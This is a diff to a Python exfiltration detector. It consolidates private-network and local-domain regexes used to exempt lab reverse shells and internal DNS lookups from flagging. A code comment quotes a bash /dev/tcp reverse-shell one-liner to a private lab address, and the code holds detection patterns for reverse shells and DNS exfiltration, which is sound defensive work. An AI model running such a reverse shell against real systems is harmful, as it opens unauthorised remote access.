@@ -147,10 +147,13 @@ def _login_by_name(lowered: str, match: re.Match[str]) -> bool:
                               for use in uses)
 
 
-# a reverse shell to a private address in a lab the note names: «Reverse shell для демонстрации (только в лабе): bash -i >&
+# a name or an address inside the user's own network, which nothing leaves: `moodle.school.local`, `bastion.acme.internal`,
+# localhost, the private IPv4 ranges
+_OWN_NETWORK = (r"(?:(?:[\w\-]+\.)*[\w\-]+\.(?:local|lan|internal|home\.arpa|localdomain)|localhost|127\.\d{1,3}\.\d{1,3}\.\d{1,3}|"
+                r"10\.\d{1,3}\.\d{1,3}\.\d{1,3}|192\.168\.\d{1,3}\.\d{1,3}|172\.(?:1[6-9]|2\d|3[01])\.\d{1,3}\.\d{1,3})(?![\w.\-])")
+# a reverse shell to his own network in a lab the note names: «Reverse shell для демонстрации (только в лабе): bash -i >&
 # /dev/tcp/10.10.0.5/4444» (an attack's shell calls a host on the internet)
-_PRIVATE_TCP = re.compile(r"/dev/(?:tcp|udp)/(?:10\.\d{1,3}\.\d{1,3}\.\d{1,3}|192\.168\.\d{1,3}\.\d{1,3}|172\.(?:1[6-9]|2\d|3[01])\.\d{1,3}"
-                          r"\.\d{1,3}|127\.\d{1,3}\.\d{1,3}\.\d{1,3}|localhost)/\d+")
+_PRIVATE_TCP = re.compile(rf"/dev/(?:tcp|udp)/{_OWN_NETWORK}/\d+")
 _LAB = re.compile(r"\b(?:lab|labs|demo|ctf|sandbox|training|classroom|students?|workshop)\b|(?<!\w)(?:лаб\w*|демонстрац\w*|стенд\w*|"
                   r"песочниц\w*|учебн\w*|студент\w*|занят\w*|ctf)(?!\w)")
 
@@ -182,8 +185,7 @@ def _own_login(lowered: str, match: re.Match[str]) -> bool:
         _AUTH_BEFORE.search(lowered, max(0, reads[-1].start() - 80), reads[-1].start()) is not None
 
 
-_LOCAL_HOST = re.compile(r"(?i)(?:https?://)?(?:[\w\-]+\.)*(?:[\w\-]+\.(?:local|lan|internal|home\.arpa|localdomain)|localhost|"
-                         r"127\.\d+\.\d+\.\d+|10\.\d+\.\d+\.\d+|192\.168\.\d+\.\d+|172\.(?:1[6-9]|2\d|3[01])\.\d+\.\d+)(?::\d+)?(?:/|$)")
+_LOCAL_HOST = re.compile(rf"(?i)(?:https?://)?{_OWN_NETWORK}(?::\d+)?(?:/|$)")
 
 
 def _url_slot(url: str, text: str = "") -> bool:
@@ -236,7 +238,8 @@ def _own_credential(lowered: str) -> bool:
         and all(match.group() in _CREDENTIAL_WORDS for match in _DATA_WORDS.finditer(lowered))
 
 
-_INTERNAL_NAME = re.compile(r"[\w.\-]*\.(?:internal|local|lan|localdomain|home\.arpa)(?![\w.\-])")
+# (read on a lookup's match and right after it, where the name's last labels may stand: `….svc.cluster` + `.local`)
+_INTERNAL_NAME = re.compile(rf"[\w.\-]*?(?:{_OWN_NETWORK}|\.(?:local|lan|internal|home\.arpa|localdomain)(?![\w.\-]))")
 
 
 def _named_service_api(url: str, lowered: str) -> bool:
@@ -440,8 +443,8 @@ def find_exfiltration(text: str, lowered: str, present: frozenset[str] | set[str
                 return URL_EXFIL
             if _IMAGE_WORDS.search(lowered) and _DATA_WORDS.search(lowered) and _OPEN_ORDER.search(lowered):
                 return IMAGE_EXFIL
-    if not present.isdisjoint(_DNS_HINTS_SET) and any(not _INTERNAL_NAME.match(text, m.end())
-                                                      and not _INTERNAL_NAME.search(m.group()) for m in _DNS.finditer(text)):
+    if not present.isdisjoint(_DNS_HINTS_SET) and any(not _INTERNAL_NAME.match(text, m.end()) and not _INTERNAL_NAME.search(m.group())
+                                                      for m in _DNS.finditer(text)):
         return DNS_EXFIL  # (not a name inside his own network: `ssh -J <me>@bastion.acme-data.internal`)
     if ("subdomain" in lowered or "sub-domain" in lowered or "label" in lowered or "hostname" in lowered or "host name" in lowered) \
             and _DNS_PACKED.search(lowered) \
